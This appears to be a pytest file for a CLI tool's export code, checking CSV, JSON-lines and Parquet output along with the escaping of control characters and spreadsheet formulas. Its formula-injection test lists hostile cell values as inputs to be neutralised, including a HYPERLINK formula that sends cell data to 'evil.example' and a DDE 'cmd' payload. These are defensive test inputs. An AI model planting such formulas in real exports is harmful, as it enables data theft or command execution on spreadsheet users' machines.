"""Rows as CSV, JSON lines and Parquet: whole files, and what becomes of text that is dangerous in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import sys
from datetime import UTC, date, datetime

import pytest

from socialsync_cli.errors import UsageError
from socialsync_cli.show import export

COLUMNS = [
    ("id", "integer"), ("text", "text"), ("rate", "number"), ("private", "boolean"), ("date", "date"), ("at", "time"),
    ("flags", "json"),
]  # fmt: skip
SQLITE = [
    (1, 'He said "hi", é 🍎\nand left', 0.5, 1, "2026-01-10", "2026-01-10 06:00:00.000000", '["a", {"b": null}]'),
    (2, None, None, None, None, None, None),
    (-3, "", -1e-07, 0, "2026-01-11", "2026-01-11 06:00:00.204700", "null"),
]
POSTGRESQL = [
    (1, 'He said "hi", é 🍎\nand left', 0.5, True, date(2026, 1, 10), datetime(2026, 1, 10, 6, tzinfo=UTC),
     ["a", {"b": None}]),
    (2, None, None, None, None, None, None),
    (-3, "", -1e-07, False, date(2026, 1, 11), datetime(2026, 1, 11, 6, 0, 0, 204700, UTC), None),
]  # fmt: skip
DRIVERS = pytest.mark.parametrize("rows", [SQLITE, POSTGRESQL], ids=["sqlite", "postgresql"])


def exported(format_, columns, *batches):
    sink = io.BytesIO()
    assert export.write(format_, sink, columns, batches) == sum(map(len, batches))
    return sink.getvalue()


@DRIVERS
def test_csv(rows):
    first, rest = exported("csv", COLUMNS, rows[:1], rows[1:]).decode().split(",0.5,")
    assert first == 'id,text,rate,private,date,at,flags\n1,"He said ""hi"", é 🍎\nand left"'
    assert rest.replace('""a"", {""b"": null}', '""a"",{""b"":null}') == (
        'true,2026-01-10,2026-01-10T06:00:00Z,"[""a"",{""b"":null}]"\n'
        "2,,,,,,\n"
        "-3,,-1e-07,false,2026-01-11,2026-01-11T06:00:00.204700Z,\n"
    )


@DRIVERS
def test_json_lines(rows):
    text = exported("jsonl", COLUMNS, rows[:1], rows[1:]).decode().replace('["a", {"b": null}]', '["a",{"b":null}]')
    assert text == (
        '{"id":1,"text":"He said \\"hi\\", é 🍎\\nand left","rate":0.5,"private":true,"date":"2026-01-10",'
        '"at":"2026-01-10T06:00:00Z","flags":["a",{"b":null}]}\n'
        '{"id":2,"text":null,"rate":null,"private":null,"date":null,"at":null,"flags":null}\n'
        '{"id":-3,"text":"","rate":-1e-7,"private":false,"date":"2026-01-11",'
        '"at":"2026-01-11T06:00:00.204700Z","flags":null}\n'
    )


@DRIVERS
def test_parquet(rows):
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed (extra parquet)")
    table = parquet.read_table(io.BytesIO(exported("parquet", COLUMNS, rows[:1], rows[1:])))
    assert [str(field.type) for field in table.schema] == [
        "int64", "string", "double", "bool", "date32[day]", "timestamp[us, tz=UTC]", "string",
    ]  # fmt: skip
    flags = [None if text is None else json.loads(text) for text in table["flags"].to_pylist()]
    assert [tuple(row.values())[:-1] for row in table.to_pylist()] == [row[:-1] for row in POSTGRESQL]
    assert flags == [row[-1] for row in POSTGRESQL]


def test_without_rows_there_is_a_header_and_nothing_else():
    assert exported("csv", COLUMNS) == b"id,text,rate,private,date,at,flags\n"
    assert exported("jsonl", COLUMNS) == b""


def test_parquet_without_pyarrow_says_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(UsageError, match=r"pip install 'socialsync-cli\[parquet\]'"):
        exported("parquet", COLUMNS, SQLITE)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+49 30 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", "\x00=1", "\x1b=1", "＝1+1",
        '=HYPERLINK("https://evil.example?x="&A1,"open")', "=cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_a_spreadsheet_gets_no_formula(text):
    row = next(csv.reader(io.StringIO(exported("csv", [("text", "text")], [(text,)]).decode().partition("\n")[2])))
    assert row[0].startswith("'")
    assert row[0][1:] == export._CONTROL.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


@pytest.mark.parametrize("text", ["a=1", "1-2", "me@home", "#tag", "a\tb", "two\nlines", " =1", "—", "'quoted'"])
def test_other_text_stays_as_it_is(text):
    assert export.cell(text) == text


def test_numbers_stay_numbers():
    assert exported("csv", [("a", "integer"), ("b", "number")], [(-5, -0.25)]) == b"a,b\n-5,-0.25\n"


def test_control_characters_are_left_out_of_csv_and_escaped_in_json():
    text = "a\x00b\x1b[31mc\x7f\x9b2Jd\re\x85"
    assert exported("csv", [("t", "text")], [(text,)]).decode() == 't\n"ab[31mc2Jd\ne"\n'
    line = exported("jsonl", [("t", "text")], [(text,)])
    assert json.loads(line) == {"t": text}
    assert not set("\x00\x1b\x9b\x85\r") & set(line.decode())


@pytest.mark.parametrize("format_", ["csv", "jsonl"])
def test_a_batch_is_written_before_the_next_is_read(format_):
    sink = io.BytesIO()

    def batches():
        for number in range(3):
            before = sink.tell()
            yield [(number,)] * 10
            assert sink.tell() > before

    assert export.write(format_, sink, [("n", "integer")], batches()) == 30
